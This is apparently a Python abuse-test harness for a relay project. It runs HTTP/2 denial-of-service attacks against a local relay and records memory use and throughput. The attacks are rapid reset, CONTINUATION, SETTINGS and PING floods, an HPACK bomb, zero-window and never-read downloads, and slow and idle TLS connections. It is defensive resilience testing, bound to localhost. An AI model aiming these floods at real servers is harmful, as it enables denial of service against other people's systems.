"""Hostile clients against a relay, with figures: what each attack makes the relay hold
(peak PSS of master and workers) and what a well-behaved client gets meanwhile.

    python -m wireleap_relay.testing abuse [--seconds N] [--load-streams N]   (make abuse)

starts a fake contract and a relay (one worker), runs each attack for N seconds beside a
well-behaved client that downloads through the relay, then holds many echoing streams for
a while (load), and prints the figures (docs/reliability.md keeps the latest). None of the
attackers has a sharetoken, except the stream flood, whose streams reuse one. Every loop is
bounded by time and count; everything binds to 127.0.0.1.
"""

import argparse
import os
import socket
import ssl
import statistics
import tempfile
import time
from collections.abc import Callable
from dataclasses import dataclass

import gevent
import gevent.event
import hpack
from hyperframe.frame import (
    ContinuationFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from wireleap_relay.testing import circuit
from wireleap_relay.testing.fake_contract import FakeContract
from wireleap_relay.testing.procstat import pss_kib
from wireleap_relay.testing.relayproc import RelayProcess, make_home
from wireleap_relay.testing.servicekey import Wallet
from wireleap_relay.wire.payload import InitPayload, Remote
from wireleap_relay.wire.sharetoken import Sharetoken

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
MiB = 1 << 20


# --- measuring the relay -------------------------------------------------------------------

def pss_bytes(master: int) -> int:
    """PSS of the relay: its master and workers."""
    return pss_kib(master) * 1024


class PeakMemory:
    """Samples the relay's PSS every 50 ms in a greenlet; `peak` once stopped."""

    def __init__(self, master: int):
        self.master = master
        self.peak = 0
        self._greenlet = gevent.spawn(self._sample)

    def _sample(self) -> None:
        while True:
            self.peak = max(self.peak, pss_bytes(self.master))
            gevent.sleep(0.05)

    def stop(self) -> int:
        self._greenlet.kill()
        return self.peak


# --- raw HTTP/2 over TLS, the way an attacker writes it ------------------------------------

def tls_socket(port: int, timeout: float = 10.0) -> ssl.SSLSocket:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    return context.wrap_socket(socket.create_connection(("127.0.0.1", port), timeout=timeout))


def h2_socket(port: int, settings: dict[int, int] | None = None) -> ssl.SSLSocket:
    sock = tls_socket(port)
    sock.sendall(PREFACE + SettingsFrame(0, settings=settings or {}).serialize())
    return sock


def request_block(encoder: hpack.Encoder, payload: str) -> bytes:
    return encoder.encode([(":method", "PUT"), (":scheme", "https"), (":authority", "relay"),
                           (":path", "/"), ("wl-payload", payload)])


def send_until(sock: ssl.SSLSocket, frames: Callable[[], bytes], deadline: float,
               limit: int) -> str:
    """Send what `frames` makes until the deadline or `limit` bytes; how it ended."""
    sent = 0
    try:
        while time.monotonic() < deadline and sent < limit:
            data = frames()
            sock.sendall(data)
            sent += len(data)
            gevent.sleep(0)
    except (OSError, ssl.SSLError):
        return "cut off by the relay"
    return "still connected"


# --- the attacks: each runs until `deadline`, returns what happened to it -------------------

def stream_flood(port: int, deadline: float, payload: str) -> str:
    """Streams opened and reset at once (rapid reset), as fast as the relay reads."""
    sock = h2_socket(port)
    encoder = hpack.Encoder()
    next_id = [1]

    def frames() -> bytes:
        stream_id = next_id[0]
        next_id[0] += 2
        return (HeadersFrame(stream_id, data=request_block(encoder, payload),
                             flags=["END_HEADERS"]).serialize() +
                RstStreamFrame(stream_id, error_code=8).serialize())
    return send_until(sock, frames, deadline, 512 * MiB)


def continuation_flood(port: int, deadline: float, payload: str) -> str:
    sock = h2_socket(port)
    sock.sendall(HeadersFrame(1, data=b"\x00" * 64).serialize())
    chunk = ContinuationFrame(1, data=b"\x00" * 16384).serialize()
    return send_until(sock, lambda: chunk, deadline, 512 * MiB)


def settings_flood(port: int, deadline: float, payload: str) -> str:
    """SETTINGS each needing an ACK, never reading the ACKs."""
    sock = h2_socket(port)
    frame = SettingsFrame(0, settings={SettingsFrame.MAX_CONCURRENT_STREAMS: 100}).serialize()
    return send_until(sock, lambda: frame * 64, deadline, 512 * MiB)


def ping_flood(port: int, deadline: float, payload: str) -> str:
    sock = h2_socket(port)
    frame = PingFrame(0, opaque_data=b"attack!!").serialize()
    return send_until(sock, lambda: frame * 64, deadline, 512 * MiB)


def hpack_bomb(port: int, deadline: float, payload: str) -> str:
    """One 4 KiB header put into the dynamic table, then referenced by 1-byte indexes:
    a few hundred bytes that would decode to megabytes."""
    sock = h2_socket(port)
    encoder = hpack.Encoder()
    big = encoder.encode([("x-bomb", "b" * 4000)])  # incremental indexing: entry 62
    block = big + bytes([0x80 | 62]) * 1000
    next_id = [1]

    def frames() -> bytes:
        stream_id = next_id[0]
        next_id[0] += 2
        return HeadersFrame(stream_id, data=block, flags=["END_HEADERS"]).serialize()
    return send_until(sock, frames, deadline, 64 * MiB)


def zero_window(port: int, deadline: float, payload: str) -> str:
    """Downloads on a connection that never opens its window: the relay must not buffer
    the targets' data for it."""
    sock = h2_socket(port, {SettingsFrame.INITIAL_WINDOW_SIZE: 0})
    _open_streams(sock, payload, 200)
    return _linger(sock, deadline)


def stops_reading(port: int, deadline: float, payload: str) -> str:
    """Opens its window wide, starts downloads and never reads the socket."""
    sock = h2_socket(port, {SettingsFrame.INITIAL_WINDOW_SIZE: 2**31 - 1})
    sock.sendall(WindowUpdateFrame(0, window_increment=2**31 - 1 - 65535).serialize())
    _open_streams(sock, payload, 50)
    return _linger(sock, deadline)


def _open_streams(sock: ssl.SSLSocket, payload: str, count: int) -> None:
    encoder = hpack.Encoder()
    for stream_id in range(1, 2 * count, 2):
        sock.sendall(HeadersFrame(stream_id, data=request_block(encoder, payload),
                                  flags=["END_HEADERS"]).serialize())


def slow_handshakes(port: int, deadline: float, payload: str) -> str:
    """Connections that send their TLS ClientHello a byte at a time."""
    socks = []
    for _ in range(200):
        sock = socket.create_connection(("127.0.0.1", port), timeout=10)
        socks.append(sock)
    hello = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + os.urandom(64)
    cut = 0
    for byte_index in range(len(hello)):
        if time.monotonic() >= deadline:
            break
        for sock in socks:
            try:
                sock.sendall(hello[byte_index:byte_index + 1])
            except OSError:
                cut += 1
        gevent.sleep(0.5)
    return f"{cut} of {len(socks)} sends refused"


def idle_connections(port: int, deadline: float, payload: str) -> str:
    """Connections that say their preface and then nothing, for as long as allowed."""
    socks = []
    for _ in range(1000):
        if time.monotonic() >= deadline:
            break
        try:
            socks.append(h2_socket(port))
        except (OSError, ssl.SSLError):
            break
    alive = _linger_many(socks, deadline)
    return f"{len(socks)} opened, {alive} still open at the end"


def _linger(sock: ssl.SSLSocket, deadline: float) -> str:
    return "still connected" if _linger_many([sock], deadline) else "cut off by the relay"


def _linger_many(socks: list[ssl.SSLSocket], deadline: float) -> int:
    gevent.sleep(max(0.0, deadline - time.monotonic()))
    alive = 0
    for sock in socks:
        try:
            sock.settimeout(0.001)
            alive += sock.recv(1) != b""
        except (TimeoutError, ssl.SSLWantReadError):
            alive += 1
        except (OSError, ssl.SSLError):
            pass
        finally:
            sock.close()
    return alive


ATTACKS: dict[str, Callable[[int, float, str], str]] = {
    "stream flood + rapid reset": stream_flood,
    "CONTINUATION flood": continuation_flood,
    "SETTINGS flood, ACKs unread": settings_flood,
    "PING flood, ACKs unread": ping_flood,
    "HPACK bomb": hpack_bomb,
    "zero window, 200 downloads": zero_window,
    "stops reading, 50 downloads": stops_reading,
    "200 slow TLS handshakes": slow_handshakes,
    "idle connections": idle_connections,
}


# --- running them -------------------------------------------------------------------------

@dataclass
class Outcome:
    attack: str
    idle_pss: int
    peak_pss: int
    baseline_mbps: float
    during_mbps: float
    attacker: str
    relay_alive: bool


def download_rates(relay, wallet: Wallet, source: str, size: int, deadline: float) -> list:
    """MB/s of back-to-back downloads of `size` bytes until the deadline."""
    rates = []
    pool = circuit.ConnectionPool()
    try:
        while time.monotonic() < deadline:
            started = time.monotonic()
            pipe = circuit.dial([(relay.relay.address, relay.relay.pubkey)], source, "tcp",
                                *wallet.current(), pool=pool)
            pipe.settimeout(30)
            pipe.sendall(b"%d\n" % size)
            got = 0
            while got < size:
                data = pipe.recv(256 * 1024)
                if not data:
                    break
                got += len(data)
            pipe.close()
            if got == size:
                rates.append(size / (time.monotonic() - started) / 1e6)
    finally:
        pool.close()
    return rates


def token_payload(relay, wallet: Wallet, target: str) -> str:
    key, contract = wallet.current()
    token = Sharetoken.mint(key, relay.relay.pubkey, contract, int(time.time()))
    return InitPayload("CONNECT", "tcp", Remote.parse(f"target://{target}"), token,
                       "0.2.0").to_json()


def run_attack(name: str, relay, wallet: Wallet, source: str, seconds: float,
               size: int) -> Outcome:
    attack = ATTACKS[name]
    idle = pss_bytes(relay.proc.pid)
    baseline = download_rates(relay, wallet, source, size, time.monotonic() + seconds / 2)
    memory = PeakMemory(relay.proc.pid)
    deadline = time.monotonic() + seconds
    attacker = gevent.spawn(attack, relay.relay.port, deadline,
                            token_payload(relay, wallet, source))
    during = download_rates(relay, wallet, source, size, deadline)
    attacker.join(timeout=60)
    peak = memory.stop()
    if not attacker.ready():
        attacker.kill()
        said = "did not end"
    elif attacker.successful():
        said = attacker.value
    else:
        said = f"attacker failed: {attacker.exception!r}"
    return Outcome(name, idle, peak, _median(baseline), _median(during), said,
                   relay.proc.poll() is None)


def _median(values: list[float]) -> float:
    return statistics.median(values) if values else 0.0


def start_network(root: str, **relay_settings) -> tuple[FakeContract, RelayProcess]:
    contract = FakeContract(os.path.join(root, "contract"), servicekey_duration=3600,
                            submission_window=3600).start()
    relay = RelayProcess(make_home(root, "relay", contract.url, "backing", workers=1,
                                   **relay_settings)).start()
    return contract, relay


def table(outcomes: list[Outcome]) -> str:
    lines = ["| attack | relay PSS idle → peak (MiB) | well-behaved download MB/s "
             "before → during | attacker | relay up |", "|---|---|---|---|---|"]
    for o in outcomes:
        lines.append(f"| {o.attack} | {o.idle_pss / MiB:.1f} → {o.peak_pss / MiB:.1f} | "
                     f"{o.baseline_mbps:.0f} → {o.during_mbps:.0f} | {o.attacker} | "
                     f"{'yes' if o.relay_alive else 'NO'} |")
    return "\n".join(lines)


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--seconds", type=float, default=15.0, help="per attack")
    parser.add_argument("--size", type=int, default=8 * MiB, help="well-behaved download")
    parser.add_argument("--only", action="append", choices=sorted(ATTACKS))
    parser.add_argument("--load-streams", type=int, default=1000)
    parser.add_argument("--load-seconds", type=float, default=60.0)
    args = parser.parse_args(argv)
    with tempfile.TemporaryDirectory() as root:
        contract, relay = start_network(root)
        source, echo = _start_source(), _start_echo()
        try:
            outcomes = [run_attack(name, relay, Wallet(contract.url), source, args.seconds,
                                   args.size) for name in (args.only or ATTACKS)]
            print(table(outcomes), flush=True)
            load = hold_streams(relay, Wallet(contract.url), echo, args.load_streams,
                                args.load_seconds)
        finally:
            relay.stop()
            contract.stop()
    print(f"\nload: {load.opened} of {load.streams} streams held {load.seconds:g} s, "
          f"{load.echoes} echoes, {len(load.errors)} errors{': ' if load.errors else ''}"
          f"{'; '.join(sorted(set(load.errors))[:3])}; relay PSS {load.idle_pss / MiB:.1f} "
          f"→ {load.peak_pss / MiB:.1f} MiB "
          f"({(load.peak_pss - load.idle_pss) / max(load.opened, 1) / 1024:.0f} KiB a stream)")
    return 0 if all(o.relay_alive for o in outcomes) and not load.errors else 1


def _start_echo() -> str:
    def serve(sock: socket.socket) -> None:
        while data := sock.recv(65536):
            sock.sendall(data)
    return _serve(serve)


def _start_source() -> str:
    """A target that sends as many pattern bytes as the first line asks for."""
    def serve(sock: socket.socket) -> None:
        line = b""
        while not line.endswith(b"\n") and len(line) < 32:
            data = sock.recv(1)
            if not data:
                return
            line += data
        remaining = int(line)
        block = b"\xa5" * 65536
        while remaining > 0:
            sock.sendall(block[:remaining])
            remaining -= min(remaining, len(block))
    return _serve(serve)


def _serve(handle: Callable[[socket.socket], None]) -> str:
    """A TCP server on 127.0.0.1 running `handle` per connection; its host:port."""
    from gevent.server import StreamServer

    def run(sock: socket.socket, _addr) -> None:
        try:
            handle(sock)
        except OSError:
            pass
        finally:
            sock.close()

    server = StreamServer(("127.0.0.1", 0), run)
    server.start()
    return f"127.0.0.1:{server.address[1]}"


# --- load: many streams held open ----------------------------------------------------------

@dataclass
class LoadOutcome:
    streams: int
    seconds: float
    opened: int
    echoes: int
    errors: list
    idle_pss: int
    peak_pss: int


def hold_streams(relay, wallet: Wallet, echo: str, streams: int, seconds: float,
                 per_connection: int = 200) -> LoadOutcome:
    """`streams` tunnels to an echo target held for `seconds`, each echoing a few bytes
    every second (a chat, not a download), over connections of `per_connection`."""
    idle = pss_bytes(relay.proc.pid)
    memory = PeakMemory(relay.proc.pid)
    pools = [circuit.ConnectionPool() for _ in range(-(-streams // per_connection))]
    hops = [(relay.relay.address, relay.relay.pubkey)]
    errors: list[str] = []
    echoes = [0]
    opened = []
    servicekey = wallet.current()  # one for all: activating 1,000 at once tests the contract
    deadline = time.monotonic() + seconds

    def one(index: int) -> None:
        try:
            pipe = circuit.dial(hops, echo, "tcp", *servicekey,
                                pool=pools[index // per_connection])
            pipe.settimeout(30)
            opened.append(index)
            while time.monotonic() < deadline:
                pipe.sendall(b"ping")
                got = b""
                while len(got) < 4:
                    data = pipe.recv(4 - len(got))
                    if not data:
                        raise ConnectionError("closed")
                    got += data
                echoes[0] += 1
                gevent.sleep(1.0)
            pipe.close()
        except Exception as exc:  # noqa: BLE001 - every failure is a figure here
            errors.append(repr(exc))

    greenlets = [gevent.spawn(one, i) for i in range(streams)]
    gevent.joinall(greenlets, timeout=seconds + 120)
    for pool in pools:
        pool.close()
    return LoadOutcome(streams, seconds, len(opened), echoes[0], errors, idle,
                       memory.stop())
